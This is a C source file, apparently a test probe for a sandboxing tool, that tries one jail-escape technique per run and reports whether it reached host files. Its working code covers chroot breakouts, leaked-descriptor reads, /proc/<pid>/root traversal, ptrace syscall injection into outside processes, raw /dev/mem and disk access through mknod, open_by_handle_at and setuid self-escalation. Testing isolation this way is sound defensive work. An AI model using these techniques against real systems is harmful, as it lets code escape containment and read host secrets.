/*
 * The breakout probe: run inside a jail, it tries one escape technique (argv[1]) and prints one line,
 *   RESULT ESCAPED <what it read or did outside>   or   RESULT BLOCKED <why each attempt failed>
 * Secrets are host paths (absolute, as the host sees them); the probe reads them with relative paths
 * once it believes it stands outside. As pid 1 (jailwright start runs the service as pid 1 of its own
 * pid namespace) it then waits for SIGTERM, so the supervisor sees a running service; otherwise it exits.
 * A setuid-root copy of it first makes itself fully root, as an attacker's binary would.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static char why[4096];

static void note(const char *format, ...) {
  va_list args;
  size_t used = strlen(why);
  if (used >= sizeof why - 2) return;
  if (used) why[used++] = ';', why[used++] = ' ', why[used] = 0;
  va_start(args, format);
  vsnprintf(why + used, sizeof why - used, format, args);
  va_end(args);
}

static void on_term(int signal_) { (void)signal_; _exit(0); }

static int finish(int escaped, const char *evidence) {
  if (escaped) printf("RESULT ESCAPED %s (%s)\n", evidence, why);
  else printf("RESULT BLOCKED %s\n", why[0] ? why : "no attempt succeeded");
  fflush(stdout);
  if (getpid() == 1) for (;;) pause();
  return escaped ? 0 : 3;
}

/* Reads a file by descriptor-relative path; returns 1 and fills `out` on success. */
static int read_at(int directory, const char *path, char *out, size_t size) {
  int fd = openat(directory, path, O_RDONLY);
  if (fd < 0) { note("open %s: %s", path, strerror(errno)); return 0; }
  ssize_t got = read(fd, out, size - 1);
  close(fd);
  if (got < 0) { note("read %s: %s", path, strerror(errno)); return 0; }
  out[got] = 0;
  while (got > 0 && (out[got - 1] == '\n')) out[--got] = 0;
  return 1;
}

/* Climbs with chdir("..") far past any real depth, then reads the host path relative to where it stands. */
static int climb_and_read(const char *secret, char *out, size_t size) {
  for (int i = 0; i < 64; i++) {
    if (chdir("..") != 0) { note("chdir ..: %s", strerror(errno)); return 0; }
  }
  return read_at(AT_FDCWD, secret + 1, out, size);
}

static int double_chroot(const char *secret, int keep_fd) {
  char buffer[512];
  int saved = keep_fd ? open(".", O_RDONLY | O_DIRECTORY) : -1;
  if (keep_fd && saved < 0) { note("open .: %s", strerror(errno)); return finish(0, ""); }
  if (chroot("usr") != 0) { note("chroot usr: %s", strerror(errno)); return finish(0, ""); }
  if (keep_fd && fchdir(saved) != 0) { note("fchdir: %s", strerror(errno)); return finish(0, ""); }
  if (!climb_and_read(secret, buffer, sizeof buffer)) return finish(0, "");
  if (chroot(".") != 0) note("chroot .: %s", strerror(errno));
  return finish(1, buffer);
}

static int leaked_fd(int fd, const char *secret) {
  char buffer[512];
  struct stat info;
  if (fstat(fd, &info) != 0) { note("fd %d: %s", fd, strerror(errno)); return finish(0, ""); }
  if (!read_at(fd, secret + 1, buffer, sizeof buffer)) return finish(0, "");
  return finish(1, buffer);
}

static int cwd_outside(const char *secret) {
  char buffer[512];
  char cwd[512];
  if (getcwd(cwd, sizeof cwd) == NULL) note("getcwd: %s (the cwd is outside the root)", strerror(errno));
  else note("cwd %s", cwd);
  if (!climb_and_read(secret, buffer, sizeof buffer)) return finish(0, "");
  return finish(1, buffer);
}

/* Reads the secret through /proc/<pid>/root of any process /proc shows whose root is outside. */
static int read_through_proc(const char *secret, char *buffer, size_t size) {
  char path[1024];
  DIR *proc = opendir("/proc");
  if (!proc) { note("opendir /proc: %s", strerror(errno)); return 0; }
  int tried = 0;
  for (struct dirent *entry; (entry = readdir(proc));) {
    if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
    snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, secret);
    int fd = open(path, O_RDONLY);
    tried++;
    if (fd >= 0) { close(fd); note("via /proc/%s/root", entry->d_name); closedir(proc); return read_at(AT_FDCWD, path, buffer, size); }
  }
  closedir(proc);
  note("no /proc/<pid>/root of %d pids reaches it", tried);
  return 0;
}

static int proc_root(const char *pid, const char *secret) {
  char path[1024], buffer[512];
  snprintf(path, sizeof path, "/proc/%s/root%s", pid, secret);
  if (read_at(AT_FDCWD, path, buffer, sizeof buffer)) return finish(1, buffer);
  return read_through_proc(secret, buffer, sizeof buffer) ? finish(1, buffer) : finish(0, "");
}

/* Attaches to a process outside and makes it run openat(AT_FDCWD, marker, O_CREAT|O_WRONLY, 0644) for us. */
static int ptrace_inject(const char *pid_text, const char *marker) {
  pid_t pid = (pid_t)atoi(pid_text);
  char peek[16] = "probe-was-here";
  struct iovec local = {peek, sizeof peek}, remote;
  struct user_regs_struct saved, regs;
  int status;
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) {
    note("ptrace attach %d: %s", (int)pid, strerror(errno));
    remote.iov_base = (void *)0x10000; remote.iov_len = sizeof peek;
    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) < 0) note("process_vm_writev %d: %s", (int)pid, strerror(errno));
    return finish(0, "");
  }
  if (waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0) { note("waitpid/getregs: %s", strerror(errno)); return finish(0, ""); }
  long text = ptrace(PTRACE_PEEKTEXT, pid, (void *)(saved.rip - 2), 0);
  if ((text & 0xffff) != 0x050f) { note("not stopped after a syscall instruction"); ptrace(PTRACE_DETACH, pid, 0, 0); return finish(0, ""); }
  /* The marker path goes on the stack well below the red zone; process_vm_writev is the other way in. */
  unsigned long where = (saved.rsp - 8192) & ~15UL;
  size_t length = strlen(marker) + 1;
  local.iov_base = (void *)marker; local.iov_len = length;
  remote.iov_base = (void *)where; remote.iov_len = length;
  if (process_vm_writev(pid, &local, 1, &remote, 1, 0) != (ssize_t)length) { note("process_vm_writev: %s", strerror(errno)); ptrace(PTRACE_DETACH, pid, 0, 0); return finish(0, ""); }
  note("process_vm_writev wrote %zu bytes into pid %d", length, (int)pid);
  regs = saved;
  regs.rip = saved.rip - 2;
  regs.orig_rax = (unsigned long)-1;
  regs.rax = SYS_openat;
  regs.rdi = (unsigned long)AT_FDCWD;
  regs.rsi = where;
  regs.rdx = O_CREAT | O_WRONLY;
  regs.r10 = 0644;
  if (ptrace(PTRACE_SETREGS, pid, 0, &regs) != 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) { note("setregs/singlestep: %s", strerror(errno)); return finish(0, ""); }
  waitpid(pid, &status, __WALL);
  ptrace(PTRACE_GETREGS, pid, 0, &regs);
  long result = (long)regs.rax;
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  if (result < 0) { note("injected openat: %s", strerror((int)-result)); return finish(0, ""); }
  char evidence[600];
  snprintf(evidence, sizeof evidence, "pid %d outside opened %s for us (fd %ld)", (int)pid, marker, result);
  return finish(1, evidence);
}

static int make_nodes(const char *major, const char *minor, const char *offset, const char *length) {
  char buffer[512];
  int escaped = 0;
  if (mknod("/work/mem", S_IFCHR | 0600, makedev(1, 1)) != 0) note("mknod /dev/mem (1,1): %s", strerror(errno));
  else {
    int fd = open("/work/mem", O_RDONLY);
    note(fd >= 0 ? "opened a new /dev/mem" : "open new /dev/mem: %s", strerror(errno));
    if (fd >= 0) close(fd);
    unlink("/work/mem");
  }
  if (mknod("/work/disk", S_IFBLK | 0600, makedev(atoi(major), atoi(minor))) != 0) {
    note("mknod block %s:%s: %s", major, minor, strerror(errno));
    return finish(0, "");
  }
  int fd = open("/work/disk", O_RDONLY);
  unlink("/work/disk");
  if (fd < 0) { note("open block %s:%s: %s", major, minor, strerror(errno)); return finish(0, ""); }
  size_t want = (size_t)atol(length);
  if (want >= sizeof buffer) want = sizeof buffer - 1;
  ssize_t got = pread(fd, buffer, want, (off_t)atoll(offset));
  close(fd);
  if (got < 0) { note("read block device: %s", strerror(errno)); return finish(0, ""); }
  buffer[got] = 0;
  note("read the host disk at byte %s", offset);
  escaped = 1;
  return finish(escaped, buffer);
}

static int mounts(const char *secret) {
  char buffer[512];
  int escaped = 0;
  if (mount("tmpfs", "/work", "tmpfs", 0, "size=64k") != 0) note("mount tmpfs: %s", strerror(errno));
  else { note("mounted tmpfs"); umount2("/work", MNT_DETACH); }
  if (mount("/", "/work", NULL, MS_BIND, NULL) != 0) note("mount --bind: %s", strerror(errno));
  else { note("bind-mounted /"); umount2("/work", MNT_DETACH); }
  if (mount("proc", "/proc", "proc", 0, NULL) != 0) note("mount proc: %s", strerror(errno));
  else {
    note("mounted proc");
    escaped = read_through_proc(secret, buffer, sizeof buffer);
    umount2("/proc", MNT_DETACH);
  }
  return finish(escaped, escaped ? buffer : "");
}

static int by_handle(const char *type, const char *hex, const char *secret) {
  (void)secret;
  char buffer[512];
  size_t bytes = strlen(hex) / 2;
  struct file_handle *handle = malloc(sizeof *handle + bytes);
  handle->handle_bytes = (unsigned)bytes;
  handle->handle_type = atoi(type);
  for (size_t i = 0; i < bytes; i++) sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
  int fd = open_by_handle_at(mount_fd, handle, O_RDONLY);
  if (fd < 0) { note("open_by_handle_at: %s", strerror(errno)); return finish(0, ""); }
  if (!read_at(fd, "", buffer, sizeof buffer)) {
    /* openat with an empty path needs AT_EMPTY_PATH; read the descriptor directly. */
    ssize_t got = pread(fd, buffer, sizeof buffer - 1, 0);
    if (got < 0) { note("read: %s", strerror(errno)); return finish(0, ""); }
    buffer[got] = 0;
    while (got > 0 && buffer[got - 1] == '\n') buffer[--got] = 0;
  }
  why[0] = 0;
  note("open_by_handle_at opened a host file");
  return finish(1, buffer);
}

static int scm_rights(const char *name, const char *secret) {
  char buffer[512];
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t length = strlen(name);
  memcpy(address.sun_path + 1, name, length);
  int sock = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(sock, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)) != 0) {
    note("connect @%s: %s", name, strerror(errno));
    return finish(0, "");
  }
  char byte;
  struct iovec io = {&byte, 1};
  union { struct cmsghdr header; char space[CMSG_SPACE(sizeof(int))]; } control;
  struct msghdr message = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
  if (recvmsg(sock, &message, 0) <= 0) { note("recvmsg: %s", strerror(errno)); return finish(0, ""); }
  struct cmsghdr *header = CMSG_FIRSTHDR(&message);
  if (!header || header->cmsg_type != SCM_RIGHTS) { note("no descriptor received"); return finish(0, ""); }
  int fd;
  memcpy(&fd, CMSG_DATA(header), sizeof fd);
  note("received fd %d over @%s", fd, name);
  if (!read_at(fd, secret + 1, buffer, sizeof buffer)) return finish(0, "");
  return finish(1, buffer);
}

static int user_namespace(const char *secret) {
  if (unshare(CLONE_NEWUSER) != 0) { note("unshare(CLONE_NEWUSER): %s", strerror(errno)); return finish(0, ""); }
  note("in a new user namespace");
  return double_chroot(secret, 0);
}

static int rename_trick(const char *watch, const char *secret) {
  char buffer[512];
  struct stat info;
  if (chdir(watch) != 0) { note("chdir %s: %s", watch, strerror(errno)); return finish(0, ""); }
  printf("READY\n");
  fflush(stdout);
  for (int i = 0; i < 2000 && stat(watch, &info) == 0; i++) usleep(10000);
  if (stat(watch, &info) == 0) { note("%s was never moved", watch); return finish(0, ""); }
  note("%s moved away while it was our cwd", watch);
  if (!climb_and_read(secret, buffer, sizeof buffer)) return finish(0, "");
  return finish(1, buffer);
}

int main(int argc, char **argv) {
  signal(SIGTERM, on_term);
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (geteuid() == 0 && getuid() != 0) {
    note("setuid copy: uid %d became euid 0", (int)getuid());
    if (setresgid(0, 0, 0) != 0 || setresuid(0, 0, 0) != 0) note("setresuid: %s", strerror(errno));
  }
  const char *technique = argc > 1 ? argv[1] : "";
  if (!strcmp(technique, "double-chroot") && argc == 3) return double_chroot(argv[2], 0);
  if (!strcmp(technique, "fchdir-chroot") && argc == 3) return double_chroot(argv[2], 1);
  if (!strcmp(technique, "leaked-fd") && argc == 4) return leaked_fd(atoi(argv[2]), argv[3]);
  if (!strcmp(technique, "cwd-outside") && argc == 3) return cwd_outside(argv[2]);
  if (!strcmp(technique, "proc-root") && argc == 4) return proc_root(argv[2], argv[3]);
  if (!strcmp(technique, "ptrace") && argc == 4) return ptrace_inject(argv[2], argv[3]);
  if (!strcmp(technique, "mknod") && argc == 6) return make_nodes(argv[2], argv[3], argv[4], argv[5]);
  if (!strcmp(technique, "mount") && argc == 3) return mounts(argv[2]);
  if (!strcmp(technique, "open-by-handle") && argc == 5) return by_handle(argv[2], argv[3], argv[4]);
  if (!strcmp(technique, "scm-rights") && argc == 4) return scm_rights(argv[2], argv[3]);
  if (!strcmp(technique, "user-namespace") && argc == 3) return user_namespace(argv[2]);
  if (!strcmp(technique, "rename") && argc == 4) return rename_trick(argv[2], argv[3]);
  if (!strcmp(technique, "idle") && argc == 2) {
    /* A service with a child, for the runtime audit: both wait, and the child dies with its parent. */
    if (fork() == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      for (;;) pause();
    }
    note("idle with a child");
    finish(0, "");
    for (;;) pause();
  }
  if (!strcmp(technique, "exec") && argc >= 3) {
    /* A child runs the program and prints the verdict: the service itself stays the probe the supervisor waits for. */
    pid_t child = fork();
    if (child == 0) {
      execv(argv[2], argv + 2);
      note("exec %s: %s", argv[2], strerror(errno));
      return finish(0, "");
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (getpid() == 1) for (;;) pause();
    return WIFEXITED(status) ? WEXITSTATUS(status) : 4;
  }
  fprintf(stderr, "usage: probe <technique> <arguments>\n");
  return 2;
}
